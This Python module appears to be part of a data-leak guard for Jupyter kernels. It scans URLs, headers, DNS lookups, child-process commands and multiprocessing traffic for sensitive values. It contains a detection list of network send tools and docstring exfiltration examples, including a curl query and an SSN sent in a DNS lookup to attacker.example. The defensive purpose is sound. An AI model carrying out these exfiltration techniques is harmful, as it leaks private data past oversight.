"""Network and child-process exits: sensitive values in what user code sends, with or without a
body. URLs and query strings (``urlopen(url + '?d=...')``, ``requests.get(params=...)``,
``pd.read_csv(url)``), headers (every request line and header block ``http.client`` sends),
``multiprocessing.connection.Client`` messages, and the arguments of child processes
(``!curl "https://x/?d=..."``). Hosts in ``network.allow_hosts`` may receive them; masked values
pass everywhere (they match no detector and are no known value).
"""
from __future__ import annotations

import os
import re
import sys
from typing import Any
from urllib.parse import unquote_plus

from jupyter_guard.hooks import exit_budget, exit_names, exits
from jupyter_guard.hooks.sealed_events import sealed
from jupyter_guard.hooks.state import busy

# command words that send data somewhere: their arguments are scanned with the detectors too
_SENDERS = re.compile(r"(?:^|[\s;&|(`/])(?:curl|wget|nc|ncat|netcat|ssh|scp|sftp|rsync|ftp|"
                      r"telnet|mail|sendmail|mutt|http|https|aws|gsutil|az|rclone)\b|://")


def _settings(rt: Any) -> Any:
    from jupyter_guard.hooks.exit_files import FX

    return FX.exports.settings() if FX is not None else _default()


def _default() -> Any:
    from jupyter_guard.mask.text import MaskSettings

    return MaskSettings()


def allowed(rt: Any, host: str) -> bool:
    return bool(host) and host.lower() in rt.guard.policy.allow_hosts


TAIL = 256
"""Characters of the query values last sent to each host kept to read the next ones after."""
_TAILS: dict[str, tuple[str, str]] = {}   # host -> (what was sent lately, the last part)


def _payload(data: Any) -> str:
    """The query values of a URL or a request line (``GET /?a=x&b=y HTTP/1.1``), glued."""
    line = exits._text(data)[:65536].split("\n", 1)[0]
    query = line.partition("?")[2].split(" ", 1)[0]
    return "".join(unquote_plus(p.partition("=")[2]) for p in query.split("&") if p)


def joined(host: str, data: Any) -> tuple[str, str]:
    """What the query values sent to ``host`` read as glued to those sent before (a value cut
    into parts, one per request: ``?a=user1@exa`` then ``?a=mple.com``), and what was sent
    before; ('', '') when nothing was. The same part seen twice in a row (the URL, then its
    request line) counts once."""
    part = _payload(data)
    if not part:
        return "", ""
    tail, last = _TAILS.get(host, ("", ""))
    if part == last:
        return "", ""
    if len(_TAILS) >= 1024 and host not in _TAILS:
        _TAILS.clear()   # bounded: many hosts, each with its own tail
    _TAILS[host] = ((tail + part)[-TAIL:], part)
    return (tail + part, tail) if tail else ("", "")


def check_out(rt: Any, host: str, data: Any, dest: str, how: str) -> None:
    """Refuse (``exfiltration``) sensitive values sent to a host not allowed, also a value cut
    into parts over several requests (``joined``: known values only, those the part completes)."""
    if busy():
        return
    glued, tail = joined(host or "?", data) if exits.known else ("", "")
    # known values this part completes: found across the place the parts meet
    made = sorted({glued[a:b] for a, b, _ in exits.known_spans(glued) if a < len(tail) < b})
    if allowed(rt, host):   # an allowed host may receive them, within the budget
        exit_budget.spend(rt.guard, rt, data, how)
        if made:   # counted once the part completing them goes
            exit_budget.spend(rt.guard, rt, "\n".join(made), how)
        return
    kind = exits.scan(data, _settings(rt), decode=True) or (
        "values read from a sensitive column (sent in parts)" if made else "")
    if kind:   # the reason names the host only: the URL holds the values
        exits.refuse(rt.guard, rt, kind, host or "?", how, host=host or "an unknown host",
                     data=data)


_START_ENV = dict(os.environ)
"""The kernel's environment as it started: only what user code set since is scanned."""


def check_command(rt: Any, cmd: str, env: Any = None) -> None:
    """A child's command line: known sensitive values always; detected ones when the command
    sends data (``curl``, ``wget``, ``nc``, a URL, ...). Its environment too (``env``, or the
    kernel's): a variable set since the kernel started that holds a known value
    (``os.environ['X'] = ssns`` then ``!curl "...?d=$X"``)."""
    if busy() or not cmd:
        return
    if _SENDERS.search(cmd):
        kind = exits.scan(cmd, _settings(rt), decode=True)
    else:
        kind = exits._known(cmd)
    if not kind and exits.known:
        kind = exits._known(_new_env(env)) or exit_names.in_command(cmd)
    if kind:   # the reason names the program only: the arguments hold the values
        word = cmd.split()[0] if cmd.split() else "?"
        exits.refuse(rt.guard, rt, kind, f"child process {word[:60]}", "child process")


def lookup_handler(rt: Any) -> Any:
    """The audit hook for ``socket.getaddrinfo``/``socket.gethostbyname``: a name looked up
    carries its labels to DNS servers outside (``gethostbyname(ssn + '.attacker.example')``),
    so a name holding a sensitive value is refused like an upload to its domain."""
    def on_lookup(args: tuple[Any, ...], f: Any) -> None:
        name = args[0] if args else None
        if isinstance(name, bytes):
            name = name.decode("latin-1")
        if not isinstance(name, str) or "." not in name or busy() or not rt.user_stack(f):
            return
        labels = name.lower().rstrip(".").split(".")
        domain = ".".join(labels[-2:])
        if allowed(rt, name.lower()) or allowed(rt, domain):
            return
        kind = exits.scan("\n".join([name, *labels]), _settings(rt), decode=True) or \
            exit_names.carries_known(name)   # a value cut to fit: dots for '@', split labels
        if kind:
            exits.refuse(rt.guard, rt, kind, domain, "DNS lookup", host=domain)
    return on_lookup


def _new_env(env: Any) -> str:
    """The values of ``env`` (a mapping, or ``os.environ`` when None) not in the starting
    environment, one per line."""
    try:
        items = (env if env is not None else os.environ).items()
        return "\n".join(os.fsdecode(v) for k, v in items
                         if _START_ENV.get(os.fsdecode(k)) != os.fsdecode(v))
    except (AttributeError, TypeError, ValueError):   # an odd env: its arguments still decide
        return ""


def install_multiprocessing(rt: Any, mod: Any, patched: dict[tuple[Any, str], Any],
                            module_patched: dict[tuple[Any, str], Any]) -> None:
    """``multiprocessing.connection.Client`` to a TCP address: what it sends is scanned."""
    client, base = mod.Client, mod._ConnectionBase
    if getattr(client, "_jg", False):
        return

    def Client(address: Any, *args: Any, **kw: Any) -> Any:
        c = client(address, *args, **kw)
        if isinstance(address, tuple) and rt.user_stack(sys._getframe(1)):
            try:
                c._jg_peer = str(address[0]).lower()
            except AttributeError:   # a connection type without attributes: decided as sent
                pass
        return c
    checked = sealed(Client, client)   # its cells out of a cell's reach
    checked._jg = True   # a mark on the guard's own wrapper
    mod.Client = checked
    module_patched[(mod, "Client")] = checked

    for name in ("send", "send_bytes"):
        orig = getattr(base, name)

        def send(self: Any, obj: Any, *args: Any, _orig: Any = orig, _name: str = name,
                 **kw: Any) -> Any:
            peer = getattr(self, "_jg_peer", None)
            if peer is not None:
                data = obj if _name == "send_bytes" else mod._ForkingPickler.dumps(obj)
                check_out(rt, peer, data, f"{peer} (multiprocessing)",
                          f"multiprocessing.connection.{_name}")
            return _orig(self, obj, *args, **kw)
        checked_send = sealed(send, orig)   # its cells (the check) out of a cell's reach
        type.__setattr__(base, name, checked_send)
        patched[(base, name)] = checked_send


def install_process_pool(rt: Any, mod: Any, patched: dict[tuple[Any, str], Any]) -> None:
    """``ProcessPoolExecutor.submit`` (and ``map``, which submits): the call's arguments are
    pickled to a worker by a background thread, where a refusal would only stop that thread
    and leave the cell waiting for ever. They are checked here, in the caller's thread, as the
    pipe would check them: a call that carries sensitive values is refused before it is queued."""
    cls = mod.ProcessPoolExecutor
    orig = cls.submit
    if getattr(orig, "_jg", False):
        return

    def submit(self: Any, fn: Any, /, *args: Any, **kwargs: Any) -> Any:
        if not busy() and exits.known:
            try:
                from multiprocessing.reduction import ForkingPickler

                data = bytes(ForkingPickler.dumps((fn, args, kwargs)))
            except Exception:  # noqa: BLE001 - not picklable: submit fails the same way itself
                data = b""
            kind = exits.scan(data, _settings(rt), decode=True) if data else ""
            if kind:
                exits.refuse(rt.guard, rt, kind, "a process pool worker",
                             "ProcessPoolExecutor.submit")
        return orig(self, fn, *args, **kwargs)
    checked = sealed(submit, orig)   # its cells (the check) out of a cell's reach
    checked._jg = True   # a mark on the guard's own wrapper
    type.__setattr__(cls, "submit", checked)
    patched[(cls, "submit")] = checked
